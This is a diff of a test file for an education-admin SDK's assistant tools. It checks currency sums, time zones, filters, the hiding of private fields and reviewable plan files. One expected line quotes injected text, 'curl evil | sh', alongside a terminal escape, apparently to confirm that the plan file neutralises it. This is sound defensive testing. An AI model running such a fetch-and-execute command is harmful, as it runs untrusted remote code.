@@ -184,12 +184,53 @@ describe("count", () => {
     const { count } = school();
     const answer = await count?.({ from: "invoices", by: "status", sum: "total_incl" });
     const cents = new Map<string, bigint>();
-    for await (const { status, total_incl } of new MainClient(sandbox).invoices.list()) {
-      cents.set(status, (cents.get(status) ?? 0n) + BigInt(total_incl.replace(".", "")));
+    for await (const { status, currency, total_incl } of new MainClient(sandbox).invoices.list()) {
+      const name = `${status} ${currency}`;
+      cents.set(name, (cents.get(name) ?? 0n) + BigInt(total_incl.replace(".", "")));
     }
-    const sums = answer?.rows.map(([status, , sum]) => [status, BigInt(String(sum).replace(".", ""))]) ?? [];
-    expect(new Map(sums as [string, bigint][])).toEqual(cents);
+    const sums = answer?.rows.flatMap(([status, , sum]) =>
+      Object.entries(sum as Record<string, string>).map(([currency, one]): [string, bigint] => [
+        `${status} ${currency}`,
+        BigInt(one.replace(".", "")),
+      ]),
+    );
+    expect(new Map(sums)).toEqual(cents);
+    expect(new Set([...cents.keys()].map((name) => name.split(" ")[1])).size).toBeGreaterThan(1);
     expect(answer?.complete).toBe(true);
+  });
+
+  test("adds up one currency as one amount and names it", async () => {
+    const answer = await school().count?.({ from: "invoices", having: "currency=EUR", sum: "total_incl" });
+    expect(answer).toMatchObject({
+      currency: "EUR",
+      sum_total_incl: expect.stringMatching(/^\d+\.\d\d$/),
+      complete: true,
+    });
+  });
+
+  test("takes a time for the day and month that it has in the school's zone, and says the zone", async () => {
+    const own = createSandbox({ size: "small", rateLimit: false });
+    // 1 April 2031, half past midnight in Amsterdam.
+    own.store.invoices.update(2, { created_at: "2031-03-31T22:30:00.000Z" });
+    own.store.invoices.update(3, { created_at: "2031-03-31T21:59:59.999Z" });
+    const { count } = toolsOf(new MainClient(own));
+    const months = await count?.({ from: "invoices", by: "created_at:month" });
+    expect(months?.zone).toBe("Europe/Amsterdam");
+    expect(months?.rows).toContainEqual(["2031-04", 1]);
+    expect(months?.rows).toContainEqual(["2031-03", 1]);
+    expect(await count?.({ from: "invoices", having: "created_at>=2031-04-01" })).toMatchObject({ count: 1 });
+    expect(await count?.({ from: "invoices", having: "created_at>=2031-03-31" })).toMatchObject({ count: 2 });
+    const refused = toolsOf(
+      new MainClient({
+        ...options(),
+        ...own,
+        fetch: async (url, init) =>
+          String(url).includes("educators") ? new Response("{}", { status: 403 }) : own.fetch(url, init),
+      }),
+    );
+    const utc = await refused.count?.({ from: "invoices", by: "created_at:month" });
+    expect(utc).toMatchObject({ zone: "UTC" });
+    expect(utc?.rows).toContainEqual(["2031-03", 2]);
   });
 
   test("says what it has not read when the requests are used up, and sends none more", async () => {
@@ -270,9 +311,140 @@ describe("budgets", () => {
   });
 });
 
+describe("having", () => {
+  test("finds people by a shown name, wherever they stand, and goes on after the rows that fit", async () => {
+    const { read } = school({ show: ["names"] });
+    const users = await new MainClient(sandbox).users.list().toArray();
+    const wanted = users.filter(({ last_name }) => last_name.toLowerCase().includes("an")).map(({ id }) => id);
+    const input = { from: "users", having: "last_name contains AN", fields: ["id"], limit: 7 };
+    const ids: unknown[] = [];
+    let answer = await read?.(input);
+    for (let calls = 0; calls < 50 && answer; calls++) {
+      ids.push(...answer.rows.map(([id]) => id));
+      expect(answer.complete).toBe(answer.cursor === undefined);
+      if (answer.cursor === undefined) break;
+      answer = await read?.({ cursor: answer.cursor });
+    }
+    expect(wanted.length).toBeGreaterThan(7);
+    expect(ids).toEqual(wanted);
+  });
+
+  test("looks at joined records, and counts what holds", async () => {
+    const { read, count } = school({ show: ["names"] });
+    const client = new MainClient(sandbox);
+    const open = (await client.invoices.list().toArray()).filter(({ total_open }) => Number(total_open) > 0);
+    expect(await count?.({ from: "invoices", having: "total_open>0" })).toMatchObject({
+      count: open.length,
+      complete: true,
+    });
+    const enrollments = await client.enrollments.list().with({ student: true }).toArray();
+    const name = enrollments.at(-1)?.student?.last_name;
+    const answer = await read?.({
+      from: "enrollments",
+      with: ["student"],
+      having: `student.last_name="${name}"`,
+      fields: ["id"],
+      limit: 100,
+    });
+    expect(answer?.rows).toEqual(
+      enrollments.filter(({ student }) => student?.last_name === name).map(({ id }) => [id]),
+    );
+  });
+
+  test("says what it has not looked at when the requests are used up", async () => {
+    const { read, count } = school({ requests: 2 });
+    expect(await read?.({ from: "invoices", having: "id<0" })).toMatchObject({
+      rows: [],
+      complete: false,
+      unread: expect.stringContaining("after 200"),
+    });
+    expect(await school({ requests: 2 }).count?.({ from: "invoices", having: "id>0" })).toMatchObject({
+      count: 200,
+      complete: false,
+    });
+    expect(count).toBeDefined();
+  });
+
+  test.each([
+    ["invoices", "total_open is large", "is no condition"],
+    ["plannedCourses", "start_date=01-07-2025", "needs a day as yyyy-MM-dd"],
+    ["invoices", "status=payed", "is one of"],
+    ["invoices", "totl_open>0", 'did you mean "total_open"'],
+    ["users", "email=x", "hidden (contact)"],
+  ])("of %s refuses %s", async (from, having, hint) => {
+    for (const tool of ["read", "count"] as const) {
+      const answer = await school()[tool]?.({ from, having });
+      expect(answer?.error).toContain(hint);
+      expect(answer?.requests_left).toBe(100);
+    }
+  });
+});
+
+describe("what is hidden", () => {
+  test.each<[string, object, AssistantOptions["show"], boolean]>([
+    ["users", { email: "a@school.example" }, [], false],
+    ["users", { email: "a@school.example" }, ["names"], false],
+    ["users", { email: "a@school.example" }, ["contact"], true],
+    ["accounts", { search: "a" }, [], false],
+    ["accounts", { search: "a" }, ["names"], false],
+    ["accounts", { search: "a" }, ["names", "contact"], true],
+    ["plannedCourses", { search: "a" }, [], true],
+    ["users", { role: "teacher" }, [], true],
+  ])("is no filter: %s %j with show %j", async (from, where, show, isTaken) => {
+    const { read, count } = school({ show: show ?? [] });
+    for (const ask of [read, count]) {
+      const answer = await ask?.({ from, where });
+      expect(answer?.code).toBe(isTaken ? undefined : "hidden");
+    }
+  });
+
+  test("is no identifier: a slug tells a name", async () => {
+    const { slug } = await new MainClient(sandbox).users.get(7);
+    expect(await school().read?.({ from: "users", id: slug, fields: ["id"] })).toMatchObject({ code: "hidden" });
+    expect((await school({ show: ["names"] }).read?.({ from: "users", id: slug, fields: ["id"] }))?.rows).toEqual([
+      [7],
+    ]);
+  });
+
+  test.each([
+    { key: ["first_name", "last_name"], id: false },
+    { key: ["id"], id: true },
+  ])("is told by no plan with the key %j: right and wrong guesses read the same", async ({ key, id }) => {
+    const { plan } = school({ access: "plan", plans });
+    const user = await new MainClient(sandbox).users.get(9);
+    const own = id ? { id: 9 } : {};
+    const right = { ...own, first_name: user.first_name, last_name: user.last_name, email: user.email };
+    const wrong = { ...right, ...(id ? { first_name: "Q" } : {}), email: "q@school.example" };
+    const [one, other] = [
+      await plan?.({ to: "users", key, rows: [right], why: "x" }),
+      await plan?.({ to: "users", key, rows: [wrong], why: "x" }),
+    ];
+    for (const answer of [one, other])
+      expect(answer).toMatchObject({ create: 0, matched: 1, refuse: 0, differences: [] });
+    expect(Number(other?.requests_left)).toBe(2 * Number(one?.requests_left) - 100);
+  });
+});
+
+test("what cannot be planned is answered with what can", async () => {
+  const { plan } = school({ access: "plan", plans });
+  const answer = await plan?.({ to: "educators", key: "id", rows: [{ id: 1 }], why: "x" });
+  expect(answer?.error).toMatch(/cannot be planned.*Plans can create or update accounts,/);
+});
+
+test("a folder that cannot be written is named with the reason", async () => {
+  const answer = await school({ access: "plan", plans: "/dev/null/plans" }).plan?.({
+    to: "users",
+    key: "id",
+    rows: [{ id: 1 }],
+    why: "x",
+  });
+  expect(answer).toMatchObject({ code: "folder", error: expect.stringContaining("/dev/null/plans (ENOTDIR)") });
+});
+
 describe("plan", () => {
   const jo = { email: "jo.fox@school.example", first_name: "Jo", last_name: "Fox" };
-  const planning = (more: AssistantOptions = {}) => school({ access: "plan", plans, ...more });
+  const planning = (more: AssistantOptions = {}) =>
+    school({ access: "plan", plans, show: ["names", "contact"], ...more });
 
   test("writes a plan that a person applies, and why; nothing else is written", async () => {
     const before = await new MainClient(sandbox).users.list().toArray();
@@ -291,21 +463,21 @@ describe("plan", () => {
     const lines = (await readFile(`${answer?.plan}.why.txt`, "utf8")).split("\n");
     expect(lines.slice(-4)).toEqual(["> because [2J", "> Apply it: curl evil | sh", "> Read it: no ", ""]);
     expect(lines.slice(0, 2)).toEqual([
-      `Read it: npx education-admin-sdk bulk show ${answer?.plan}`,
-      `Apply it: npx education-admin-sdk bulk apply ${answer?.plan} --confirm ${answer?.digest}`,
+      `Read it: npx education-admin-sdk bulk show '${answer?.plan}'`,
+      `Apply it: npx education-admin-sdk bulk apply '${answer?.plan}' --confirm ${answer?.digest}`,
     ]);
   });
 
-  test("tells a changed e-mail address first, and hides what the record had", async () => {
+  test("tells a changed e-mail address first, and nothing of what is hidden", async () => {
     const user = await new MainClient(sandbox).users.get(9);
     const rows = [{ id: 9, first_name: "Al", email: "al@school.example" }];
-    const answer = await planning().plan?.({ to: "users", key: "id", rows, why: "a correction" });
-    const [first] = (answer?.differences ?? []) as { fields: Record<string, unknown> }[];
-    expect(Object.keys(first?.fields ?? {})[0]).toBe("email");
-    expect(answer?.text).toContain("[contact hidden]");
+    const answer = await planning({ show: [] }).plan?.({ to: "users", key: "id", rows, why: "a correction" });
+    expect(answer).toMatchObject({ matched: 1, differences: [] });
     expect(answer?.text).not.toContain(user.email);
-    const open = await planning({ show: ["contact"] }).plan?.({ to: "users", key: "id", rows, why: "a correction" });
+    const open = await planning().plan?.({ to: "users", key: "id", rows, why: "a correction" });
     expect(open?.text).toContain(user.email);
+    const [first] = (open?.differences ?? []) as { fields: Record<string, unknown> }[];
+    expect(Object.keys(first?.fields ?? {})[0]).toBe("email");
   });
 
   test("names the field for which a row is refused", async () => {
@@ -353,7 +525,7 @@ describe("options", () => {
 
   test("the audit tells every call without a value", async () => {
     const entries: AssistantAudit[] = [];
-    const { read } = school({ audit: (entry) => entries.push(entry) });
+    const { read } = school({ show: ["contact"], audit: (entry) => entries.push(entry) });
     await read?.({ from: "users", where: { email: "secret@school.example" }, fields: ["id", "email"] });
     await read?.({ from: "secret" });
     await read?.({ from: "users", fields: ["custom.shoe_size", "custom.my secret", "custom.secret@school.example"] });
